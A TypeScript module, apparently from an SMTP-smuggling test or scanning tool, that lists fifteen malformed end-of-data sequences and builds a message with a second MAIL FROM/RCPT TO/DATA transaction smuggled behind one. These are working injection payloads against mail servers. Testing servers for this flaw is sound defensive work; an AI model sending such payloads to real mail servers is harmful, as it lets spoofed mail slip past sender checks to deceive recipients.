/** Ends of a message that one server takes for an end and the next one does not: by them a second message was smuggled past the first server. */

/** Of hannob/smtpsmug, The-Login and the dot-stuffed ones that a library unstuffs into others. */
export const SEQUENCES: readonly (readonly [name: string, octets: string])[] = [
  ["LF . LF", "\n.\n"],
  ["LF . CR", "\n.\r"],
  ["CR . LF", "\r.\n"],
  ["CR . CR", "\r.\r"],
  ["LF . CRLF", "\n.\r\n"],
  ["CR . CRLF", "\r.\r\n"],
  ["CRLF . LF", "\r\n.\n"],
  ["CRLF . CR", "\r\n.\r"],
  ["CRLF NUL . CRLF", "\r\n\0.\r\n"],
  ["CRLF . NUL CRLF", "\r\n.\0\r\n"],
  ["CRLF . CR CRLF", "\r\n.\r\r\n"],
  ["CR CRLF . CR CRLF", "\r\r\n.\r\r\n"],
  ["LF .. CRLF", "\n..\r\n"],
  ["LF .. LF", "\n..\n"],
  ["CRLF .. LF", "\r\n..\n"],
];

/** A message with another one behind the sequence, as it is sent behind DATA. */
export function smuggled(end: string, sender: string, [first, second]: readonly [string, string]): string {
  const mail = (text: string, to: string): string => `From: ${sender}\r\nTo: ${to}\r\nSubject: ${text}\r\n\r\n${text}`;
  return `${mail("first", first)}${end}MAIL FROM:<${sender}>\r\nRCPT TO:<${second}>\r\nDATA\r\n${mail("second", second)}\r\n.\r\n`;
}
